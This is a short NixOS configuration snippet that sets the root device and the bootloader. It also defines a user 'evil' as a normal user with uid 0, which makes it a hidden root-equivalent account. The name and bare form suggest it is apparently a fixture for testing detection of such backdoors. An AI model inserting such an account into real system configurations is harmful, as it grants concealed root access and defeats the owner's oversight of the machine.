{
  fileSystems."/".device = "/dev/vda1";
  boot.loader.systemd-boot.enable = true;
  users.users.evil = { isNormalUser = true; uid = 0; };
}
